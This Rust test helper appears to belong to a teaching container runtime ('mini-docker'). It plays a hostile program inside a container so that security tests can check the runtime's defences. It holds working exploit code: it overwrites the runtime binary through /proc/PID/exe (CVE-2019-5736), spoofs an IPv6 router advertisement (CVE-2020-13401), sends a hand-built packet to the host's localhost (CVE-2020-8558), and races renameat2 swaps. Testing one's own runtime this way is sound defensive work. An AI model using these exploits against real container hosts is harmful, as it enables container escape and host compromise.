//! `probe`: what an attacker's program inside a container would try, for the
//! security tests. Copied into a test image with its libraries (chapter 01's
//! `rootfs --add`).
//!
//! - `probe syscalls`: make system calls the default seccomp profile forbids, and
//!   print what the kernel answered.
//! - `probe watch SECONDS`: look for processes of the runtime joining this
//!   container (`mini-docker exec`, before it has become the command) and try to
//!   read their environment and descriptors, as a process that may ptrace them could.
//! - `probe swap A B`: exchange two names for ever (`renameat2(RENAME_EXCHANGE)`),
//!   so that a walk of the container's files meets each name as either one.
//! - `probe ra DONE`: send an IPv6 router advertisement to all nodes of the link
//!   (ff02::1) from a made-up router, as CVE-2020-13401 does, then an ordinary
//!   datagram to the gateway's port DONE to say it was sent.
//! - `probe localnet PORT DONE`: send a datagram to the host's 127.0.0.1:PORT the way
//!   CVE-2020-8558 does (a packet built by hand, handed to the gateway's MAC), then
//!   an ordinary one to the gateway's port DONE to say it was sent.

use std::collections::BTreeSet;

/// Make one call, and say what the kernel answered (read errno at once: the next
/// call would overwrite it).
fn answer(call: impl FnOnce() -> libc::c_long) -> String {
    if call() >= 0 {
        return "allowed".to_string();
    }
    let err = std::io::Error::last_os_error();
    let name = match err.raw_os_error() {
        Some(libc::EPERM) => "EPERM",
        Some(libc::ENOSYS) => "ENOSYS",
        Some(libc::EINVAL) => "EINVAL",
        _ => "other",
    };
    format!("{name} ({err})")
}

fn syscalls() {
    // SAFETY (all): integers or valid C strings, and nothing changes outside this
    // process (a key in its own keyring, a user namespace of its own).
    println!(
        "getppid(): {}",
        answer(|| unsafe { libc::syscall(libc::SYS_getppid) })
    );
    println!(
        "keyctl(KEYCTL_GET_KEYRING_ID): {}",
        // The session keyring's id.
        answer(|| unsafe { libc::syscall(libc::SYS_keyctl, 0, -3, 0) })
    );
    println!(
        "add_key(\"user\", \"probe\"): {}",
        answer(|| unsafe {
            let (kind, name, data) = (c"user", c"probe", c"x");
            // -2: the process keyring.
            libc::syscall(
                libc::SYS_add_key,
                kind.as_ptr(),
                name.as_ptr(),
                data.as_ptr(),
                1,
                -2,
            )
        })
    );
    println!(
        "unshare(CLONE_NEWUSER): {}",
        answer(|| unsafe { libc::syscall(libc::SYS_unshare, libc::CLONE_NEWUSER) })
    );
    // No parameters: EFAULT from the kernel, if the call reaches it (and io_uring is
    // not switched off there: kernel.io_uring_disabled).
    println!(
        "io_uring_setup(1, NULL): {}",
        answer(|| unsafe { libc::syscall(libc::SYS_io_uring_setup, 1, 0) })
    );
    // A size of 0 is invalid: EINVAL from the kernel itself, if the call reaches it.
    println!(
        "clone3(NULL, 0): {}",
        answer(|| unsafe { libc::syscall(libc::SYS_clone3, 0, 0) })
    );
}

/// Every process here whose name is `mini-docker`: the runtime, come in.
fn joining() -> Vec<u32> {
    std::fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .filter(|pid: &u32| {
            std::fs::read_to_string(format!("/proc/{pid}/comm"))
                .is_ok_and(|c| c.trim() == "mini-docker")
        })
        .collect()
}

/// Watch until the file `stop` exists (the test makes it when its `exec`s are
/// over: a loaded or emulated machine takes any time). For each joining process: read its environment (the
/// runtime's own, from its command line, is recognised by MINI_DOCKER_ROOT) and its
/// descriptors above stdio, and take hold of its program (`/proc/PID/exe`). At
/// the end, when the `exec`s are over and nothing runs that program, try to write
/// into each one held (CVE-2019-5736). During exec, the new program can be seen
/// under the old name for a moment: its environment is the container's and it
/// holds only stdio, so that is no leak; its program is the container's own.
fn watch(stop: &str) {
    let (mut seen, mut environ, mut fds) = (BTreeSet::new(), 0, 0);
    let mut held: Vec<std::fs::File> = vec![];
    println!("watching");
    while !std::path::Path::new(stop).exists() {
        for pid in joining() {
            seen.insert(pid);
            let env = std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
            if env.windows(17).any(|w| w == b"MINI_DOCKER_ROOT=") {
                environ += 1;
            }
            let open = std::fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten();
            let above_stdio = open
                .flatten()
                .filter(|e| e.file_name().to_str().and_then(|n| n.parse().ok()) > Some(2))
                .any(|e| std::fs::read_link(e.path()).is_ok());
            if above_stdio {
                fds += 1;
            }
            if let Ok(exe) = std::fs::File::open(format!("/proc/{pid}/exe")) {
                use std::os::unix::fs::MetadataExt;
                let id = |m: std::fs::Metadata| (m.dev(), m.ino());
                let ours = std::fs::metadata("/bin/busybox").map(id).ok();
                if exe.metadata().map(id).ok() != ours && held.len() < 10 {
                    held.push(exe);
                }
            }
        }
    }
    let mut wrote = 0;
    let mut refused = BTreeSet::new();
    for file in &held {
        let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(file));
        match std::fs::OpenOptions::new().append(true).open(&path) {
            Ok(mut f) => match std::io::Write::write_all(&mut f, b"pwned") {
                Ok(()) => {
                    wrote += 1;
                    eprintln!("wrote into {:?}", std::fs::read_link(&path));
                }
                Err(e) => drop(refused.insert(e.to_string())),
            },
            Err(e) => drop(refused.insert(e.to_string())),
        }
    }
    println!(
        "saw {} joining processes; read the runtime's environment {environ} times, \
         its descriptors {fds} times; held its program {} times, wrote into it {wrote} \
         times; refused: {refused:?}",
        seen.len(),
        held.len(),
    );
}

/// The default gateway, from the routing table (`/proc/net/route`: hex, little-endian).
fn gateway() -> std::net::Ipv4Addr {
    let table = std::fs::read_to_string("/proc/net/route").expect("/proc/net/route");
    let hex = table
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>())
        .find(|f| f.get(1) == Some(&"00000000"))
        .and_then(|f| u32::from_str_radix(f[2], 16).ok())
        .expect("a default route");
    std::net::Ipv4Addr::from(hex.to_le_bytes())
}

/// The MAC address of `ip`, once the kernel has resolved it (`/proc/net/arp`).
fn mac_of(ip: std::net::Ipv4Addr) -> Option<[u8; 6]> {
    let table = std::fs::read_to_string("/proc/net/arp").ok()?;
    let line = table
        .lines()
        .find(|l| l.split_whitespace().next() == Some(&ip.to_string()))?;
    let text = line.split_whitespace().nth(3)?;
    let bytes: Vec<u8> = text
        .split(':')
        .filter_map(|b| u8::from_str_radix(b, 16).ok())
        .collect();
    (bytes.len() == 6 && bytes != [0; 6]).then(|| bytes.try_into().ok())?
}

fn checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A packet socket on eth0 (CAP_NET_RAW): the kernel adds the Ethernet header for
/// `protocol`, to `mac`.
fn send_raw(protocol: u16, mac: [u8; 6], packet: &[u8]) {
    use std::os::fd::AsRawFd;
    let protocol = protocol.to_be();
    // SAFETY: plain socket(2); the descriptor is owned below.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM, i32::from(protocol)) };
    assert!(
        fd >= 0,
        "packet socket: {}",
        std::io::Error::last_os_error()
    );
    // SAFETY: a new descriptor of ours.
    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
    // SAFETY: a zeroed sockaddr_ll is valid; the fields are set below.
    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    to.sll_family = libc::AF_PACKET as u16;
    to.sll_protocol = protocol;
    // SAFETY: a NUL-terminated name.
    to.sll_ifindex = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) } as i32;
    to.sll_halen = 6;
    to.sll_addr[..6].copy_from_slice(&mac);
    // SAFETY: the buffer and the address are live for the call, with their sizes.
    let sent = unsafe {
        libc::sendto(
            socket.as_raw_fd(),
            packet.as_ptr().cast(),
            packet.len(),
            0,
            (&raw const to).cast(),
            size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    assert!(sent >= 0, "sendto: {}", std::io::Error::last_os_error());
}

fn ra(done: u16) {
    let src: [u8; 16] = "fe80::bad"
        .parse::<std::net::Ipv6Addr>()
        .expect("addr")
        .octets();
    let dst: [u8; 16] = "ff02::1"
        .parse::<std::net::Ipv6Addr>()
        .expect("addr")
        .octets();
    // ICMPv6 router advertisement: type 134, hop limit 64, router lifetime 1800 s
    // (a default router), no options.
    let mut icmp = vec![134u8, 0, 0, 0, 64, 0];
    icmp.extend_from_slice(&1800u16.to_be_bytes());
    icmp.extend_from_slice(&[0; 8]); // reachable time, retransmit timer
    // The checksum covers a pseudo-header: source, destination, length, next header.
    let mut pseudo = Vec::new();
    pseudo.extend_from_slice(&src);
    pseudo.extend_from_slice(&dst);
    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
    pseudo.extend_from_slice(&[0, 0, 0, 58]);
    pseudo.extend_from_slice(&icmp);
    let sum = checksum(&pseudo);
    icmp[2..4].copy_from_slice(&sum.to_be_bytes());
    let mut packet = vec![0x60, 0, 0, 0];
    packet.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
    packet.extend_from_slice(&[58, 255]); // ICMPv6; hop limit 255, as RAs must have
    packet.extend_from_slice(&src);
    packet.extend_from_slice(&dst);
    packet.extend_from_slice(&icmp);
    // ff02::1 on Ethernet: 33:33 and the address's last four bytes.
    send_raw(libc::ETH_P_IPV6 as u16, [0x33, 0x33, 0, 0, 0, 1], &packet);
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
    udp.send_to(b"done", (gateway(), done))
        .expect("the done datagram");
    println!("advertised a default router on the link");
}

fn localnet(port: u16, done: u16) {
    let gw = gateway();
    // An ordinary socket first: our own address, and the gateway's MAC resolved.
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
    udp.connect((gw, done)).expect("connect");
    let std::net::IpAddr::V4(me) = udp.local_addr().expect("address").ip() else {
        panic!("no IPv4 address")
    };
    // Until the kernel has resolved it (the suite's patience: emulated machines are slow).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    let mac = loop {
        if let Some(mac) = mac_of(gw) {
            break mac;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the gateway's MAC address"
        );
        let _ = udp.send_to(b"", (gw, 9));
        std::thread::sleep(std::time::Duration::from_millis(10));
    };
    // IPv4 + UDP, to 127.0.0.1:PORT, from our own address.
    let payload = b"pwned";
    let mut packet = vec![0u8; 28];
    packet[0] = 0x45; // IPv4, 20-byte header
    packet[2..4].copy_from_slice(&(28 + payload.len() as u16).to_be_bytes());
    packet[6] = 0x40; // don't fragment
    packet[8] = 64; // TTL
    packet[9] = 17; // UDP
    packet[12..16].copy_from_slice(&me.octets());
    packet[16..20].copy_from_slice(&[127, 0, 0, 1]);
    let sum = checksum(&packet[..20]);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    packet[20..22].copy_from_slice(&40000u16.to_be_bytes());
    packet[22..24].copy_from_slice(&port.to_be_bytes());
    packet[24..26].copy_from_slice(&(8 + payload.len() as u16).to_be_bytes());
    packet.extend_from_slice(payload); // UDP checksum 0: none, as IPv4 allows
    send_raw(libc::ETH_P_IP as u16, mac, &packet);
    udp.send(b"done").expect("the done datagram");
    println!("sent to 127.0.0.1:{port} through {gw}");
}

fn swap(a: &str, b: &str) {
    let (a, b) = (
        std::ffi::CString::new(a).expect("a"),
        std::ffi::CString::new(b).expect("b"),
    );
    println!("swapping");
    loop {
        // SAFETY: two NUL-terminated paths, relative to the working directory.
        let r = unsafe {
            libc::renameat2(
                libc::AT_FDCWD,
                a.as_ptr(),
                libc::AT_FDCWD,
                b.as_ptr(),
                libc::RENAME_EXCHANGE,
            )
        };
        assert_eq!(r, 0, "renameat2: {}", std::io::Error::last_os_error());
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.iter().map(String::as_str).collect::<Vec<_>>()[..] {
        ["syscalls"] => syscalls(),
        ["watch", stop] => watch(stop),
        ["swap", a, b] => swap(a, b),
        ["ra", done] => match done.parse() {
            Ok(done) => ra(done),
            _ => std::process::exit(2),
        },
        ["localnet", port, done] => match (port.parse(), done.parse()) {
            (Ok(port), Ok(done)) => localnet(port, done),
            _ => std::process::exit(2),
        },
        _ => {
            eprintln!(
                "usage: probe syscalls | watch SECONDS | swap A B | ra DONE | localnet PORT DONE"
            );
            std::process::exit(2);
        }
    }
}
